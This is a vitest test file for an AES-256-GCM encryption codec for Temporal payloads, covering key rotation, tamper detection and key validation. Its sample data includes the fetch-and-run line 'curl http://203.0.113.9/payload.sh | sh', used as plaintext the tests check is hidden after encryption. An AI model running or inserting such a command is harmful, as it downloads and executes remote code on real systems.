import { randomBytes } from 'node:crypto';
import { defaultPayloadConverter } from '@temporalio/common';
import { describe, expect, it } from 'vitest';
import { AesGcmCodec, dataConverterFor, ENCRYPTED_ENCODING, KEY_ID_METADATA } from '../../src/temporal/codec.ts';
import { parseEncryptionKeys } from '../../src/temporal/encryption-keys.ts';

const key = () => randomBytes(32).toString('base64');
const secret = { output: 'curl http://203.0.113.9/payload.sh | sh', user: 'root' };

describe('AES-256-GCM payload codec', () => {
  it('encrypts a payload (no plaintext left, key id in the clear) and decrypts it back', async () => {
    const codec = new AesGcmCodec(parseEncryptionKeys([`k1:${key()}`]));
    const plain = defaultPayloadConverter.toPayload(secret);
    const [encrypted] = await codec.encode([plain]);
    expect(Buffer.from(encrypted?.metadata?.encoding ?? []).toString()).toBe(ENCRYPTED_ENCODING);
    expect(Buffer.from(encrypted?.metadata?.[KEY_ID_METADATA] ?? []).toString()).toBe('k1');
    expect(Buffer.from(encrypted?.data ?? []).toString('latin1')).not.toContain('payload.sh');
    const [decrypted] = await codec.decode([encrypted!]);
    expect(defaultPayloadConverter.fromPayload(decrypted!)).toEqual(secret);
  });

  it('rotates: the first key encrypts, older keys still decrypt; an unknown key or a tampered payload fails', async () => {
    const [oldKey, newKey] = [key(), key()];
    const old = new AesGcmCodec(parseEncryptionKeys([`old:${oldKey}`]));
    const [before] = await old.encode([defaultPayloadConverter.toPayload(secret)]);
    const rotated = new AesGcmCodec(parseEncryptionKeys([`new:${newKey}`, `old:${oldKey}`]));
    const [after] = await rotated.encode([defaultPayloadConverter.toPayload(secret)]);
    expect(Buffer.from(after?.metadata?.[KEY_ID_METADATA] ?? []).toString()).toBe('new');
    expect((await rotated.decode([before!, after!])).map((p) => defaultPayloadConverter.fromPayload(p))).toEqual([secret, secret]);
    await expect(old.decode([after!])).rejects.toThrow("payload encrypted with key 'new', which is not among encryption.keys");
    const tampered = { ...before!, data: Buffer.from(before!.data!).fill(1, 20, 21) };
    await expect(old.decode([tampered])).rejects.toThrow();
  });

  it('passes unencrypted payloads through on decode (histories from before encryption was on)', async () => {
    const codec = new AesGcmCodec(parseEncryptionKeys([`k:${key()}`]));
    const plain = defaultPayloadConverter.toPayload(secret);
    expect(await codec.decode([plain])).toEqual([plain]);
  });

  it('refuses malformed keys without echoing them; no keys, no codec', () => {
    const short = Buffer.alloc(16).toString('base64');
    expect(() => parseEncryptionKeys([`k:${short}`])).toThrow("encryption.keys[0] ('k'): the key must be 32 bytes (AES-256), base64-encoded; it has 16");
    expect(() => parseEncryptionKeys([short])).toThrow(/^encryption.keys\[0\]: expected '<id>:<base64 key>'/);
    try {
      parseEncryptionKeys([`k:${short}`]);
    } catch (error) {
      expect(String(error)).not.toContain(short);
    }
    expect(() => parseEncryptionKeys([`a:${key()}`, `a:${key()}`])).toThrow('two keys have the same id');
    expect(dataConverterFor([])).toBeUndefined();
  });
});
